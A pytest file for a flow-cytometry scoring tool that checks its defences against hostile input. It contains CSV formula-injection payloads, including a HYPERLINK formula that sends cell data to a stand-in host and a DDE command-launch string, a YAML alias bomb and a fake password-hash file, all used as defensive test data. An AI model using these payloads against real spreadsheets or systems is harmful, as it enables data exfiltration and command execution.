"""Hostile and careless input (issue 14): formulas in plate-map cells, outputs over inputs, bad
events, and the one-unit guarantees of a run's outputs."""

from __future__ import annotations

import csv
import shutil
import subprocess
import sys
from pathlib import Path

import numpy as np
import pytest

from assaykit._io.names import neutralise, restore
from assaykit.findings import FindingCode, finding, parse_findings
from assaykit.scoring import score_run


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1+1", "@SUM(A1)", "\tx", "\rx", "'=x", "plain", "", "1.5",
                                  '=HYPERLINK("http://x/?"&A2)'])
def test_neutralise_is_exact_and_safe(text: str) -> None:
    safe = neutralise(text)
    assert not safe.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert restore(safe) == text


def test_formulas_in_the_plate_map_are_neutralised(simulated_run: Path, tmp_path: Path) -> None:
    from assaykit.report import build_reports

    run = tmp_path / "run"
    shutil.copytree(simulated_run, run)
    with open(run / "plate_map.csv", newline="") as handle:
        rows = list(csv.DictReader(handle))
    hostile = '=HYPERLINK("http://x/?"&A2)'
    for row in rows:
        if row["condition"] == "IFN-gamma":
            row["condition"] = hostile
        row["timepoint"] = "-1+1" if row["timepoint"] else ""
        row["note"] = "=1+1"
    with open(run / "plate_map.csv", "w", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    result = score_run(run, out=tmp_path / "out", jobs=1)
    assert (result.samples["condition"] == hostile).sum() == 2  # the tables in memory keep the text
    for name in ("samples", "restoration", "patients", "cohort"):
        with open(tmp_path / "out" / f"{name}.csv", newline="", encoding="utf-8") as handle:
            cells = [cell for row in csv.reader(handle) for cell in row]
        assert not any(c.startswith(("=", "+", "@", "\t", "\r")) for c in cells), name
        assert not any(c.startswith("-") and not _number(c) for c in cells), name
    with open(tmp_path / "out" / "samples.csv", newline="", encoding="utf-8") as handle:
        samples = list(csv.DictReader(handle))
    assert {s["note"] for s in samples if s["role"] == "sample"} == {"'=1+1"}
    assert "'" + hostile in {s["condition"] for s in samples}
    # the report shows the text as it was given, escaped
    build_reports(tmp_path / "out", jobs=1)
    page = (tmp_path / "out" / "patients" / "P01.html").read_text(encoding="utf-8")
    assert "=HYPERLINK(&#34;http://x/?&#34;&amp;A2)" in page or "=HYPERLINK(&quot;http://x/?&quot;&amp;A2)" in page


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_nan_and_infinite_events_are_excluded_and_counted(simulated_run: Path, tmp_path: Path) -> None:
    from assaykit import read_fcs
    from assaykit.fcs.writer import write_fcs

    run = tmp_path / "run"
    shutil.copytree(simulated_run, run)
    path = run / "Specimen_001_A1_A01.fcs"
    sample = read_fcs(path)
    events = sample.events.astype(np.float32).copy()
    events[5, sample.channels.index("FSC-A")] = np.nan
    events[6, sample.channels.index("SSC-A")] = np.inf
    events[7, sample.channels.index("PE-A")] = -np.inf
    keywords = {k: v for k, v in sample.keywords.items() if not k.startswith(("$P", "$TOT", "$PAR", "$BEGIN",
                                                                               "$END", "$BYTEORD", "$DATATYPE",
                                                                               "$MODE", "$NEXTDATA"))}
    write_fcs(path, events, sample.channels, sample.markers, keywords)
    result = score_run(run, out=tmp_path / "out", jobs=1)
    row = result.samples.set_index("file").loc["Specimen_001_A1_A01.fcs"]
    assert row["error"] == "" and row["hladr_abc"] > 0
    assert finding(FindingCode.NONFINITE_EVENTS, "3 events with a missing or infinite value (NaN, inf) excluded "
                   "before gating") in parse_findings(row["qc_flags"])


@pytest.mark.parametrize("out", [".", "reports", ".."])
def test_outputs_never_over_inputs(simulated_run: Path, tmp_path: Path, out: str) -> None:
    from assaykit.errors import AssayKitError

    run = tmp_path / "work" / "run"
    shutil.copytree(simulated_run, run)
    before = {p.name: p.read_bytes() for p in run.iterdir()}
    target = (run / out).resolve()
    with pytest.raises(AssayKitError, match="outputs may never be written over a run's inputs"):
        score_run(run, out=target, jobs=1)
    (run / "run.yaml").write_text((run / "run.yaml").read_text() + "out: .\n")
    with pytest.raises(AssayKitError, match="the output folder is the run folder"):
        score_run(run, jobs=1)
    (run / "run.yaml").write_bytes(before["run.yaml"])
    assert {p.name: p.read_bytes() for p in run.iterdir()} == before


def test_default_output_of_a_run_under_reports_is_refused(simulated_run: Path, tmp_path: Path,
                                                          monkeypatch: pytest.MonkeyPatch) -> None:
    from assaykit.errors import AssayKitError

    shutil.copytree(simulated_run, tmp_path / "reports" / "run")
    monkeypatch.chdir(tmp_path)
    with pytest.raises(AssayKitError, match="the output folder is the run folder"):
        score_run(Path("reports") / "run", jobs=1)


def _run_with(simulated_run: Path, tmp_path: Path, run_yaml: str = "") -> Path:
    run = tmp_path / "run"
    if not run.exists():
        shutil.copytree(simulated_run, run)
    if run_yaml:
        (run / "run.yaml").write_text("plate_map: plate_map.csv\nlot: beads_lot.yaml\n" + run_yaml)
    return run


@pytest.mark.parametrize("extra,message", [
    ("responder: {min_fold_change: \"1.5\"}\n", "responder.min_fold_change: expected a finite number, got '1.5'"),
    ("responder: {require_state_improvement: \"false\"}\n", "require_state_improvement: expected true or false"),
    ("thresholds: {normal_abc: .inf}\n", "thresholds.normal_abc: expected a finite number"),
    ("jobs: true\n", "jobs: expected an integer"),
    ("thresholds: {normal_abcc: 1}\n", "thresholds: unknown key 'normal_abcc'"),
    ("control: &a [1, 2]\nspecimen: *a\n", "YAML anchors and aliases"),
    ("a: &a [x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b]\n",
     "YAML anchors and aliases"),
])
def test_run_yaml_is_typed(simulated_run: Path, tmp_path: Path, extra: str, message: str) -> None:
    from assaykit.errors import AssayKitError

    run = _run_with(simulated_run, tmp_path, extra)
    with pytest.raises(AssayKitError) as refused:
        score_run(run, out=tmp_path / "out", jobs=1)
    assert message in str(refused.value) and len(str(refused.value)) < 400
    assert not (tmp_path / "out").exists()


def test_numbers_in_exponent_form_are_numbers(simulated_run: Path, tmp_path: Path) -> None:
    run = _run_with(simulated_run, tmp_path, "thresholds: {normal_abc: 15e3}\n")
    result = score_run(run, out=tmp_path / "out", jobs=1, write=False)
    assert result.manifest["thresholds"]["normal_abc"] == 15000.0


def test_file_contents_never_leak(simulated_run: Path, tmp_path: Path) -> None:
    from assaykit.errors import AssayKitError

    secret = tmp_path / "shadow"
    secret.write_text("".join(f"user{i}:$6$secret-hash-{i}:19000:0:99999:7:::\n" for i in range(20)))
    run = _run_with(simulated_run, tmp_path, f"clinical: {secret}\n")
    for key in ("lot", "strategy", "plate_map", "clinical"):
        (run / "run.yaml").write_text(f"{key}: {secret}\n" + ("lot: beads_lot.yaml\n" if key != "lot" else ""))
        with pytest.raises(AssayKitError) as refused:
            score_run(run, out=tmp_path / "out", jobs=1)
        text = str(refused.value)
        assert sum(f"secret-hash-{i}" in text for i in range(20)) <= 1, (key, text)
        assert "secret-hash-1" not in text and "secret-hash-2" not in text, (key, text)


def test_special_and_huge_files_are_refused_before_reading(simulated_run: Path, tmp_path: Path) -> None:
    import os

    from assaykit.errors import AssayKitError

    run = _run_with(simulated_run, tmp_path)
    fifo = tmp_path / "fifo.csv"
    os.mkfifo(fifo)
    big = tmp_path / "big.csv"
    with open(big, "wb") as handle:
        handle.truncate(17 << 20)  # sparse: refused on its size, never read
    for line, message in ((f"plate_map: {fifo}\n", "not a regular file"),
                          ("lot: /dev/zero\n", "not a regular file"),
                          (f"plate_map: {big}\n", "more than the 16,777,216 allowed"),
                          (f"strategy: {tmp_path}\n", "is a directory")):
        (run / "run.yaml").write_text("lot: beads_lot.yaml\n" + line if "lot:" not in line else line)
        with pytest.raises(AssayKitError, match=message):
            score_run(run, out=tmp_path / "out", jobs=1)


def test_unknown_gate_keys_are_refused() -> None:
    from assaykit.errors import GatingError
    from assaykit.gating import parse_strategy

    doc = {"markers": {"FSC-A": {}}, "readout": {"population": "cells", "marker": "FSC-A"},
           "populations": [{"name": "cells", "gate": {"type": "interval", "dims": ["FSC-A"], "low": 1000,
                                                      "hihg": 5000}}]}
    with pytest.raises(GatingError, match="unknown key 'hihg'"):
        parse_strategy(doc)
    doc["populations"][0]["gate"] = {"auto": "debris", "dims": ["FSC-A"], "cell_span": "wide"}
    with pytest.raises(GatingError, match="cell_span: expected a finite number"):
        parse_strategy(doc)


@pytest.mark.parametrize("encoding", ["utf-8-sig", "utf-16", "cp1252"])
def test_plate_maps_from_excel_on_windows(simulated_run: Path, tmp_path: Path, encoding: str) -> None:
    run = _run_with(simulated_run, tmp_path)
    text = (run / "plate_map.csv").read_text(encoding="utf-8").replace("IFN-gamma", "IFN-\u00e9")
    (run / "plate_map.csv").write_bytes(text.encode(encoding))
    result = score_run(run, out=tmp_path / "out", jobs=1, write=False)
    assert "IFN-\u00e9" in set(result.samples["condition"])
    assert result.manifest["plate_map"]["read_as"] == encoding


def test_empty_plate_map_and_xlsx_sheets(simulated_run: Path, tmp_path: Path) -> None:
    import pandas as pd

    from assaykit.errors import AssayKitError

    run = _run_with(simulated_run, tmp_path)
    table = pd.read_csv(run / "plate_map.csv", dtype=str, keep_default_na=False)
    (run / "plate_map.csv").write_bytes(b"")
    with pytest.raises(AssayKitError, match="the plate map is empty"):
        score_run(run, out=tmp_path / "out", jobs=1)
    with pd.ExcelWriter(run / "plate.xlsx") as writer:
        pd.DataFrame({"notes": ["run of 22 Nov", "operator: M."]}).to_excel(writer, sheet_name="Notes", index=False)
        table.to_excel(writer, sheet_name="Plate", index=False)
    (run / "plate_map.csv").unlink()
    (run / "run.yaml").write_text("plate_map: plate.xlsx\nlot: beads_lot.yaml\n")
    result = score_run(run, out=tmp_path / "out", jobs=1, write=False)
    assert result.manifest["plate_map"]["read_as"] == "sheet 'Plate'"
    (run / "run.yaml").write_text("plate_map: plate.xlsx\nlot: beads_lot.yaml\nplate_map_sheet: Notes\n")
    with pytest.raises(AssayKitError, match="missing column"):
        score_run(run, out=tmp_path / "out", jobs=1)


def test_two_rows_naming_one_file_are_refused(simulated_run: Path, tmp_path: Path) -> None:
    from assaykit.errors import AssayKitError

    run = _run_with(simulated_run, tmp_path)
    with open(run / "plate_map.csv", newline="") as handle:
        rows = list(csv.DictReader(handle))
    control = next(r for r in rows if r["condition"] == "unstimulated")
    drug = next(r for r in rows if r["patient"] == control["patient"] and r["condition"] == "IFN-gamma")
    drug["file"] = "subfolder/" + control["file"]
    with open(run / "plate_map.csv", "w", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    with pytest.raises(AssayKitError, match=f"both resolve to the file {control['file']}"):
        score_run(run, out=tmp_path / "out", jobs=1)


# --- a run's outputs are one unit -------------------------------------------------------------------


def _cli(*args: str) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "assaykit.cli", *args], capture_output=True, text=True, timeout=300)


def test_outputs_are_one_verified_unit(simulated_run: Path, tmp_path: Path) -> None:
    import json

    out = tmp_path / "out"
    first = _cli("score", str(simulated_run), "--out", str(out), "--jobs", "1")
    assert first.returncode == 0, first.stderr
    assert _cli("verify", str(out)).returncode == 0
    manifest = json.loads((out / "manifest.json").read_text())
    listed = set(manifest["files"])
    assert listed == {p.relative_to(out).as_posix() for p in out.rglob("*") if p.is_file()} - {"manifest.json"}
    assert {"samples.csv", "figure_data.json", "index.html"} <= listed
    assert json.loads((out / "figure_data.json").read_text())["run_id"] == manifest["run_id"]
    # a tampered table: verify says so (exit 1) and report refuses it (exit 2) without writing
    samples = out / "samples.csv"
    samples.write_text(samples.read_text().replace("unstimulated", "unstimulatedX", 1))
    check = _cli("verify", str(out))
    assert check.returncode == 1 and "samples.csv: changed since it was written" in check.stdout
    refused = _cli("report", str(out))
    assert refused.returncode == 2 and "not the one the manifest lists" in refused.stderr
    # figure data of another run beside these tables: refused
    second = tmp_path / "second"
    assert _cli("score", str(simulated_run), "--out", str(second), "--jobs", "1", "--no-report").returncode == 0
    shutil.copy(second / "figure_data.json", out / "figure_data.json")
    samples.write_bytes((second / "samples.csv").read_bytes())  # same tables, another run_id
    refused = _cli("report", str(out))
    assert refused.returncode == 2 and "figure_data.json: this file is not the one the manifest lists" \
        in refused.stderr, refused.stderr
    # and with a manifest that lists no files (an older run), the run_id still tells them apart
    manifest = json.loads((out / "manifest.json").read_text())
    del manifest["files"]
    (out / "manifest.json").write_text(json.dumps(manifest))
    refused = _cli("report", str(out))
    assert refused.returncode == 2 and "run_id differs" in refused.stderr, refused.stderr


def test_a_failed_write_leaves_the_previous_folder(simulated_run: Path, tmp_path: Path,
                                                  monkeypatch: pytest.MonkeyPatch) -> None:
    import errno

    from assaykit.errors import AssayKitError
    from assaykit.scoring import tables

    out = tmp_path / "out"
    score_run(simulated_run, out=out, jobs=1)
    before = {p.relative_to(out): p.read_bytes() for p in out.rglob("*") if p.is_file()}

    def full_disk(*args: object, **kwargs: object) -> None:
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(tables, "seal", full_disk)
    with pytest.raises(AssayKitError, match=r"\(No space left on device\); the previous folder is unchanged"):
        score_run(simulated_run, out=out, jobs=1)
    assert {p.relative_to(out): p.read_bytes() for p in out.rglob("*") if p.is_file()} == before
    assert not list(tmp_path.glob(".out.staging-*"))


def test_a_second_writer_is_refused(simulated_run: Path, tmp_path: Path) -> None:
    from assaykit._io.atomic import output_unit
    from assaykit.errors import AssayKitError

    out = tmp_path / "out"
    with output_unit(out) as stage:
        (stage / "x").write_text("x")
        with pytest.raises(AssayKitError, match="another assaykit is writing this output folder"):
            score_run(simulated_run, out=out, jobs=1)
        second = _cli("score", str(simulated_run), "--out", str(out), "--jobs", "1")
        assert second.returncode == 2 and "another assaykit is writing" in second.stderr
    assert (out / "x").read_text() == "x"


def test_concurrent_scores_never_mix(simulated_run: Path, tmp_path: Path) -> None:
    out = tmp_path / "out"
    procs = [subprocess.Popen([sys.executable, "-m", "assaykit.cli", "score", str(simulated_run), "--out", str(out),
                               "--jobs", "1"], stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
             for _ in range(2)]
    results = [(p.wait(timeout=300), p.stderr.read()) for p in procs]
    assert sorted(code for code, _ in results) in ([0, 0], [0, 2]), results
    assert _cli("verify", str(out)).returncode == 0


def test_kill_midway_leaves_the_previous_folder_and_the_next_run_cleans_up(simulated_run: Path,
                                                                         tmp_path: Path) -> None:
    import signal
    import time

    out = tmp_path / "out"
    assert _cli("score", str(simulated_run), "--out", str(out), "--jobs", "1").returncode == 0
    before = {p.relative_to(out): p.read_bytes() for p in out.rglob("*") if p.is_file()}
    proc = subprocess.Popen([sys.executable, "-m", "assaykit.cli", "score", str(simulated_run), "--out", str(out),
                             "--jobs", "2"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    deadline = time.time() + 60
    while not list(tmp_path.glob(".out.staging-*")) and time.time() < deadline and proc.poll() is None:
        time.sleep(0.02)
    proc.send_signal(signal.SIGKILL)
    proc.wait()
    assert {p.relative_to(out): p.read_bytes() for p in out.rglob("*") if p.is_file()} == before
    assert _cli("score", str(simulated_run), "--out", str(out), "--jobs", "1", "--no-report").returncode == 0
    assert not list(tmp_path.glob(".out.staging-*"))
    assert _cli("verify", str(out)).returncode == 0


def test_report_never_follows_a_symlink_out(simulated_run: Path, tmp_path: Path) -> None:
    out = tmp_path / "out"
    assert _cli("score", str(simulated_run), "--out", str(out), "--jobs", "1").returncode == 0
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    shutil.rmtree(out / "patients")
    (out / "patients").symlink_to(elsewhere, target_is_directory=True)
    result = _cli("report", str(out))  # a link assaykit never wrote: refused, named, kept, never followed
    assert result.returncode == 2 and "'patients'" in result.stderr, result.stderr
    assert list(elsewhere.iterdir()) == [] and (out / "patients").is_symlink()


def test_figure_data_spliced_from_tube_texts_is_the_whole_documents_json(tmp_path: Path) -> None:
    # workers return each tube's figure data as JSON text; the file is those texts spliced into
    # the document: the same bytes json.dumps gives for the whole document, whatever the names
    import json

    from assaykit.scoring import figure_data

    tubes = {'A1 "quoted".fcs': {"panels": [{"counts": [1, 2], "x": 0.5}], "hladr": {"n": 3}},
             "é\u2028\\back.fcs": {"hladr": {"counts": [0], "n": 0}, "panels": []}, "=cmd|' /C calc'!A0.fcs": {}}
    beads = {"c": 1.5, "u": [0.1, 0.2], "channel": "PE-A"}
    for chosen in (tubes, {}):
        figure_data.write(tmp_path, {k: figure_data._dumps(v) for k, v in chosen.items()}, beads, "run-1")
        expected = {"version": figure_data.VERSION, "hladr_log10_edges": figure_data.HLADR_LOG10_EDGES.tolist(),
                    "tubes": chosen, "beads": beads, "run_id": "run-1"}
        written = (tmp_path / figure_data.FILE_NAME).read_text()
        assert written == json.dumps(expected, separators=(",", ":"), sort_keys=True) + "\n"
        assert json.loads(written)["tubes"] == chosen
